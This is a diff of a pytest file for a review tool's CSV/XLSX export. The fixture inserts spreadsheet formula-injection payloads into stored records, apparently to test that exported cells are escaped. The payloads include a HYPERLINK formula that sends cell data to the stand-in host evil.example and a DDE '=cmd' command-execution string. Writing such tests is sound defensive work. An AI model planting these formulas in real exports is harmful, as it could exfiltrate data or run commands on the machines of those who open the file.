@@ -14,24 +14,55 @@ from review.cli import main
 from review.reports.tabular import Table, csv_cell, write_csv, write_xlsx
 from review.store import schema
 
-PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\")", "=cmd|' /C calc'!A0", "+1+2", "-3+4",
-            "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-3+4",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture
 def hostile_review(review_dir, store):
     with store.write() as conn:
         conn.execute(update(schema.works).where(schema.works.c.id == 1).values(title=PAYLOADS[0], venue=PAYLOADS[2]))
-        conn.execute(update(schema.raw_records).where(schema.raw_records.c.id == 1).values(
-            title=PAYLOADS[1], publisher=PAYLOADS[3]))
-        conn.execute(insert(schema.decisions).values(
-            work_id=4, stage=1, reviewer="Anna", decision="exclude", reasons=json.dumps([PAYLOADS[4]]),
-            note=PAYLOADS[5], final=True, automatic=False, basis="reviewer", created_at="2023-03-02T10:00:00.000000+00:00"))
-        conn.execute(insert(schema.decisions).values(
-            work_id=4, stage=1, reviewer="@Anna", decision="exclude", reasons=json.dumps(["x"]),
-            note=PAYLOADS[6], final=True, automatic=False, basis="reviewer", created_at="2023-03-02T10:00:01.000000+00:00"))
+        conn.execute(
+            update(schema.raw_records)
+            .where(schema.raw_records.c.id == 1)
+            .values(title=PAYLOADS[1], publisher=PAYLOADS[3])
+        )
+        conn.execute(
+            insert(schema.decisions).values(
+                work_id=4,
+                stage=1,
+                reviewer="Anna",
+                decision="exclude",
+                reasons=json.dumps([PAYLOADS[4]]),
+                note=PAYLOADS[5],
+                final=True,
+                automatic=False,
+                basis="reviewer",
+                created_at="2023-03-02T10:00:00.000000+00:00",
+            )
+        )
+        conn.execute(
+            insert(schema.decisions).values(
+                work_id=4,
+                stage=1,
+                reviewer="@Anna",
+                decision="exclude",
+                reasons=json.dumps(["x"]),
+                note=PAYLOADS[6],
+                final=True,
+                automatic=False,
+                basis="reviewer",
+                created_at="2023-03-02T10:00:01.000000+00:00",
+            )
+        )
     return review_dir
-
 
 
 @pytest.mark.parametrize("what", ["works", "raw", "decisions", "included", "search-log"])
